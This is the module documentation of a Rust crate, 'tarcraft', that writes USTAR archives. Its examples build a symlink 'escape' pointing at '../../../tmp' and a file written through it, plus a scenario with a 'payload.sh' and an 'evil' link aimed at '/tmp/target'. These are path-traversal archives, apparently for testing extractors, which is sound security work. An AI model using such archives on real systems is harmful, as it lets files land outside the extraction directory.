//! Minimal USTAR archive writer for crafting symlink archives
//!
//! The crate writes classic 512-byte USTAR headers and block-padded bodies,
//! and composes them into archives whose symlink entries test how tar
//! extractors handle paths that escape the extraction directory.
//!
//! # Usage
//!
//! ## Building an archive by hand
//!
//! ```rust
//! use tarcraft::{ArchiveOptions, ArchiveWriter, EntryType};
//!
//! # fn main() -> Result<(), tarcraft::TarError> {
//! let mut archive = ArchiveWriter::new(Vec::new(), ArchiveOptions::default());
//!
//! let mut link = archive.header();
//! link.set_name("escape")?;
//! link.set_mode(0o777)?;
//! link.set_type(EntryType::Symlink);
//! link.set_link_target("../../../tmp")?;
//! link.finalize();
//! archive.append(&link)?;
//!
//! let body = b"payload";
//! let mut file = archive.header();
//! file.set_name("escape/payload")?;
//! file.set_mode(0o644)?;
//! file.set_size(body.len() as u64)?;
//! file.set_type(EntryType::RegularFile);
//! file.finalize();
//! archive.append_with_body(&file, &body[..], body.len() as u64)?;
//!
//! let bytes = archive.finish()?;
//! assert_eq!(bytes.len(), 3 * 512);
//! # Ok(())
//! # }
//! ```
//!
//! ## Running a named scenario
//!
//! ```rust,no_run
//! use tarcraft::{ArchiveOptions, Scenario};
//!
//! let scenario = Scenario::SymlinkDirOne {
//!     payload: "payload.sh".into(),
//!     linkname: "evil".into(),
//!     destination: "/tmp/target".into(),
//!     output: "one.tar".into(),
//! };
//! match scenario.run(ArchiveOptions::default()) {
//!     Ok(created) => println!("Created {:?}", created),
//!     Err(e) => eprintln!("Error: {}", e),
//! }
//! ```

pub mod archive;
pub mod error;
pub mod owner;
pub mod scenario;
pub mod tar;

pub use archive::{ArchiveOptions, ArchiveWriter, Entry, EntryMetadata};
pub use error::{Result, TarError};
pub use scenario::Scenario;
pub use tar::{calc_checksum, write_body, BodyBlocks, EntryType, FieldMode, TarHeader, BLOCK_SIZE};
